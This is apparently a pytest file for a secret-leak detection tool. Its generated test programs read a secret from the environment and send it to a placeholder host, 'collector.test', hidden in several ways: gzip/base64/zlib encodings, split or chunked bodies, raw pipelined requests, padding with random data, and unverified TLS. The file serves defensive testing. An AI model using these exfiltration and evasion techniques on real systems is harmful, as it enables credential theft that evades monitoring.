# SPDX-License-Identifier: MIT
"""What the kernel does not look through is found in its copy: late, and the process ends.

The program takes the secret from its environment and wraps it up; it goes on for a while, so
that it can be seen to die.
"""

from __future__ import annotations

import sys
from collections.abc import Callable

import pytest

from lab import Lab
from lab.guard import FINDINGS, Guarded
from lab.tokens import Token

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

PROGRAM = """\
import base64, gzip, http.client, json, os, ssl, time, zlib
value = os.environ["{name}"]
def connect():
    if "{scheme}" == "http":
        return http.client.HTTPConnection("{host}", timeout=10)
    context = ssl._create_unverified_context()
    return http.client.HTTPSConnection("{host}", timeout=10, context=context)
conn = connect()
def post(body, path="/up", **headers):
    conn.request("POST", path, body, headers)
    conn.getresponse().read()
{body}
time.sleep(3)
open("{mark}", "w").close()
"""
BODIES = {
    "gzip > base64": """
inside = json.dumps({"env": base64.b64encode(("T=" + value).encode()).decode()})
post(gzip.compress(inside.encode()), **{"Content-Encoding": "gzip"})
""",
    "base64 > zlib > json": r"""
inside = '{"env": "' + "".join("\\u%04x" % ord(letter) for letter in value) + '"}'
post(json.dumps({"data": base64.b64encode(zlib.compress(inside.encode())).decode()}))
""",
    "split": """
post(json.dumps([value[at:at + 5] for at in range(0, len(value), 5)]))
""",
    "chunked": """
post(iter([value[at:at + 1].encode() for at in range(len(value))]))
""",
    "split over requests": """
text = "POST /up HTTP/1.1\\r\\nHost: {host}\\r\\nContent-Length: %d\\r\\n\\r\\n%s"
bodies = ["n=%d&d=%s" % (at, value[at:at + 9]) for at in range(0, len(value), 9)]
conn.connect()
conn.sock.sendall("".join(text % (len(body), body) for body in bodies).encode())
""",
}
DEEP = """
before, behind = (os.urandom(size).hex() for size in (100_000, 9_000))
data = gzip.compress(" ".join((before, value, behind)).encode())
conn.putrequest("POST", "/up")
conn.putheader("Content-Length", str(len(data)))
conn.endheaders()
for at in range(0, len(data), 4096):
    conn.send(data[at:at + 4096])
    time.sleep(0.1)
"""
SCHEMES = {"http": "secret-in-payload", "https": "secret-in-tls"}


def sender(lab: Lab, token: Token, body: str, scheme: str, host: str) -> list[str]:
    program = lab.directory / "send.py"
    values = {
        "name": token.name,
        "scheme": scheme,
        "host": host,
        "body": BODIES[body].replace("{host}", host),
    }
    program.write_text(PROGRAM.format(**values, mark=lab.directory / "survived"))
    return [sys.executable, str(program)]


@pytest.mark.parametrize("scheme", sorted(SCHEMES))
@pytest.mark.parametrize("body", sorted(BODIES))
def test_it_is_found_late(lab: Lab, leakstop: Guard, secret: Token, body: str, scheme: str) -> None:
    run = leakstop(
        sender(lab, secret, body, scheme, "collector.test"), mode="audit", secrets=[secret]
    )
    assert run.code == FINDINGS, run.stderr
    writes = [event for event in run.events("write") if event["late"]]
    assert writes, run.events("write")
    assert (writes[0]["applied"], writes[0]["carriage"]) == ("allow", "kill")
    assert (writes[0]["name"], writes[0]["tie"]) == (
        "collector.test",
        "socket" if scheme == "http" else "name",
    )
    (hit,) = writes[0]["hits"]
    assert (hit["secret"], hit["encoding"]) == (secret.name, body.partition(" over")[0])
    assert not (lab.directory / "survived").exists(), "the process was not killed"
    (finding,) = run.findings(SCHEMES[scheme])
    assert (finding["severity"], finding["secret"]) == ("critical", secret.name)
    assert run.report["coverage"]["lost_events"] == 0
    assert run.shows(secret) == []


@pytest.mark.parametrize("scheme", sorted(SCHEMES))
@pytest.mark.parametrize("body", sorted(BODIES))
def test_towards_its_home_nothing_is_said(
    lab: Lab, leakstop: Guard, secret: Token, body: str, scheme: str
) -> None:
    place = f'"{scheme}://home.test"'
    run = leakstop(
        sender(lab, secret, body, scheme, "home.test"),
        mode="block",
        policy=f"version: 1\nallow: [{place}]\nsecrets: {{{secret.name}: [{place}]}}\n",
        secrets=[secret],
    )
    assert (run.code, run.findings()) == (0, []), run.stderr
    assert run.events("write") == []


@pytest.mark.parametrize("scheme", sorted(SCHEMES))
def test_of_what_looks_suspicious_more_is_looked_through(
    lab: Lab, leakstop: Guard, secret: Token, scheme: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A secret behind 100 KB in gzip, which takes its time, to a host that nobody named."""
    monkeypatch.setitem(BODIES, "deep", DEEP)
    run = leakstop(
        sender(lab, secret, "deep", scheme, "collector.test"), mode="audit", secrets=[secret]
    )
    writes = [event for event in run.events("write") if event["late"]]
    assert [write["hits"][0]["encoding"] for write in writes] == ["gzip"], run.stderr
    assert run.code == FINDINGS
